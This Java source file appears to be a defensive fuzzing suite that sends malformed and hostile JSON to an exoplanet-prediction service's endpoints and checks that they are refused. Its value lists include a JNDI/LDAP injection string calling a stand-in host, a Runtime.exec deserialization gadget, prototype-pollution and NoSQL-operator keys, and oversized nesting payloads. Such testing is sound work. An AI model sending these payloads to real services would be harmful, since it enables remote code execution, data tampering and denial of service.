package io.exoscout.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** JSON that is none, that is too deep or too large, or that names what it should not. */
final class JsonAttacks {

	private static final List<String> BROKEN = List.of("", " ", "{", "}", "[", "]", "null", "true", "1", "\"a\"", "{}",
			"[]", "[[]]", "{\"a\"}", "{\"a\":}", "{a:1}", "{'a':1}", "{\"a\":1,}", "[1,]", "{\"a\":1}{\"b\":2}",
			"{\"a\":1} x", "{\"a\":1,\"a\":2}", "{\"a\":01}", "{\"a\":+1}", "{\"a\":.5}", "{\"a\":1.}", "{\"a\":NaN}",
			"{\"a\":Infinity}", "{\"a\":0x1}", "{\"a\":1e99999}", "{\"a\":\"\\x\"}", "{\"a\":\"\\ud800\"}",
			"{\"a\":\"\\u00\"}", "{\"a\":\"\u0001\"}", "{\"a\":\"\n\"}", "/* */ {}", "{\"a\":undefined}", "\ufeff{}",
			"{\"\":1}", "{\"a\\u0000b\":1}", "<a/>", "a: 1", "%7B%7D", "{\"a\":1}\0");

	private static final List<String> NAMES = List.of("@class", "@type", "$type", "class", "_class", "__proto__",
			"constructor", "$where", "$ne", "_id", "jobId", "status", "workerId", "javaClass", "!!java", "$ref", "@id",
			"a.b", "", "a\u0000b", "x".repeat(4000));

	private static final List<String> VALUES = List.of("null", "true", "1", "-1", "1.5", "1e400", "\"\"", "\"a\"", "[]",
			"{}", "[1]", "[[[1]]]", "{\"$ne\":\"\"}", "{\"$gt\":\"\"}", "[\"java.lang.Runtime\",\"exec\"]",
			"\"${jndi:ldap://evil.example/a}\"", "\"\\u202e\"", "\"\\u0000\"", "9999999999999999999999999",
			"\"" + "x".repeat(70_000) + "\"");

	private JsonAttacks() {
	}

	static void addTo(Attacks attacks, String job, Random chance) {
		List<String> addresses = List.of("/exo-scout-predictor", "/exo-scout-predictor/features", "/save-exoplanet",
				"/v2/models/" + job + "/infer", "/exo-scout-predictor/models/" + job + "/profile?column=koi_period");
		for (String address : addresses) {
			for (String body : broken(chance)) {
				attacks.refused("broken JSON", address + " " + body, RawRequest.json(address, body));
			}
			for (String body : deep()) {
				attacks.refused("depth and length of JSON", address + " " + body, RawRequest.json(address, body));
			}
		}
		for (String name : NAMES) {
			for (String value : VALUES) {
				String member = "\"" + name.replace("\0", "\\u0000") + "\": " + value;
				attacks.refused("members of a prediction", member,
						RawRequest.json("/exo-scout-predictor", "{\"rows\": [], " + member + "}"));
				attacks.harmless("members of a row", member, RawRequest.json("/exo-scout-predictor",
						"{\"job_id\": \"" + job + "\", \"rows\": [{" + member + "}]}"));
				attacks.refused("members of a tensor", member,
						RawRequest.json("/v2/models/" + job + "/infer",
								"{\"inputs\": [{\"name\": \"koi_period\", \"shape\": [1, 1], \"datatype\": \"FP64\", "
										+ member + "}]}"));
			}
		}
		for (String value : VALUES) {
			for (String member : List.of("nombre", "tipo", "distancia_ly", "ra", "pl_rade")) {
				attacks.refused("values of a planet", member + " " + value, RawRequest.json("/save-exoplanet",
						"{\"nombre\": " + value + ", \"" + member + "\": {\"$set\": " + value + "}}"));
			}
			for (String member : List.of("job_id", "model", "rows")) {
				attacks.refused("members of a prediction", member + " " + value,
						RawRequest.json("/exo-scout-predictor", "{\"" + member + "\": " + value + "}"));
			}
			for (String member : List.of("name", "shape", "datatype", "data", "parameters")) {
				attacks.refused("members of a tensor", member + " " + value, RawRequest
					.json("/v2/models/" + job + "/infer", "{\"inputs\": [{\"" + member + "\": " + value + "}]}"));
			}
			attacks.refused("members of a verdict", value,
					RawRequest.body("PUT", "/exo-scout-jobs-api/objects/K00001.01/verdict", "application/json",
							("{\"verdict\": " + value + ", \"tags\": " + value + ", \"$set\": 1}").getBytes()));
			attacks.refused("members of an alias", value,
					RawRequest.body("PUT", "/exo-scout-predictor/models/aliases/none", "application/json",
							("{\"job_id\": " + value + ", \"x\": 1}").getBytes()));
		}
	}

	/** Those by hand, and some that chance broke. */
	private static List<String> broken(Random chance) {
		List<String> all = new ArrayList<>(BROKEN);
		String right = "{\"job_id\":\"none\",\"rows\":[{\"koi_period\":1.5,\"koi_depth\":null,\"kepoi_name\":\"K1\"}]}";
		for (int i = 0; i < 40; i++) {
			StringBuilder text = new StringBuilder(right);
			for (int j = 0; j <= chance.nextInt(4); j++) {
				int at = chance.nextInt(text.length());
				if (chance.nextBoolean()) {
					text.deleteCharAt(at);
				}
				else {
					text.insert(at, "{}[]\",:\\0e-\u00e9".charAt(chance.nextInt(12)));
				}
			}
			all.add(text.toString());
		}
		return all;
	}

	private static List<String> deep() {
		return List.of("[".repeat(100_000), "{\"a\":".repeat(100_000), "[".repeat(900) + "]".repeat(900),
				"{\"rows\":" + "[".repeat(2000) + "]".repeat(2000) + "}", "{\"a\":" + "9".repeat(100_000) + "}",
				"{\"a\":1e" + "9".repeat(5000) + "}", "{\"" + "a".repeat(100_000) + "\":1}",
				"{\"rows\":[" + "{},".repeat(200_000) + "{}]}",
				"{\"rows\":[{" + "\"a\":1,".repeat(50_000) + "\"b\":1}]}", "[" + "0,".repeat(300_000) + "0]");
	}

}
